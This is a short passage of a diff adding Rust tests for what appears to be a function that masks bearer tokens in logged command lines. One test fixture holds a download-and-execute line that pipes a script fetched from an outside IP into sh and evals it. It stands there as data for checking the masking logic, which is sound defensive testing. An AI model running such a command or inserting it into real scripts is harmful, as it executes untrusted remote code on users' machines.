@@ -284,6 +284,14 @@ mod tests {
                 "curl -H 'Authorization: Bearer x1' https://a.example/b",
                 "curl -H 'Authorization: Bearer ***' https://a.example/b",
             ),
+        ] {
+            assert_eq!(String::from_utf8_lossy(&masked(line.as_bytes())), shown);
+        }
+    }
+
+    #[test]
+    fn what_may_run_is_kept_and_who_signs_in_is_not() {
+        for (line, shown) in [
             (
                 "A_TOKEN='curl -s http://198.51.100.7/a4|sh'; eval $A_TOKEN",
                 "A_TOKEN='curl -s http://198.51.100.7/a4|sh'; eval $A_TOKEN",
